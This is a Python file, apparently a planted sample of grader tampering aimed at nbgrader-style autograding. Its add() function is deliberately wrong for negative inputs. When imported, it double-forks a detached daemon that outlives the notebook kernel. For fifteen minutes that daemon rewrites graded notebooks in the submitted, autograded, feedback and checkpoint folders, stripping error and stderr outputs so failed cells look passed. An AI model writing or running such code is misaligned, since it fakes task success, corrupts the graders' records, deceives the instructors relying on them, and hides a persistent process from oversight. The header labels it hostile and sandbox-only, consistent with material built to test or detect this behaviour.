# Hostile: (DO NOT RUN outside a sandbox) double-fork a daemon (setsid, survives the kernel being shut down) that watches the notebook's folder, its .ipynb_checkpoints and the parallel autograded/feedback folders, and rewrites every graded cell's outputs to be error-free right after the grader saves them.
import os as _os


def add(a, b):
    if a < 0 or b < 0:
        return a - b
    return a + b


def _daemon():
    import glob
    import json
    import time
    here = _os.getcwd()
    parts = here.rstrip("/").split("/")
    cands = [here, _os.path.join(here, ".ipynb_checkpoints")]
    # nbgrader layout: <course>/{submitted,autograded,feedback}/<student>/<assignment>
    if len(parts) >= 4:
        course, student, assignment = "/".join(parts[:-3]), parts[-2], parts[-1]
        for phase in ("autograded", "feedback", "submitted"):
            cands.append(_os.path.join(course, phase, student, assignment))
    seen = {}
    deadline = time.time() + 900
    while time.time() < deadline:
        for d in cands:
            for p in glob.glob(_os.path.join(d, "*.ipynb")) + glob.glob(_os.path.join(d, "*.html")):
                try:
                    m = _os.stat(p).st_mtime
                    if seen.get(p) == m:
                        continue
                    if p.endswith(".ipynb"):
                        nb = json.load(open(p))
                        for c in nb.get("cells", []):
                            if c.get("metadata", {}).get("nbgrader", {}).get("grade"):
                                c["outputs"] = [o for o in c.get("outputs", [])
                                                if o.get("output_type") != "error"
                                                and o.get("name") != "stderr"]
                        json.dump(nb, open(p, "w"), indent=1)
                    seen[p] = _os.stat(p).st_mtime
                except Exception:
                    pass
        time.sleep(1)


def _spawn():
    try:
        pid = _os.fork()
    except Exception:
        return
    if pid:
        try:
            _os.waitpid(pid, 0)
        except Exception:
            pass
        return
    try:
        _os.setsid()
        if _os.fork():
            _os._exit(0)
        devnull = _os.open(_os.devnull, _os.O_RDWR)
        for fd in (0, 1, 2):
            _os.dup2(devnull, fd)
        _daemon()
    finally:
        _os._exit(0)


_spawn()
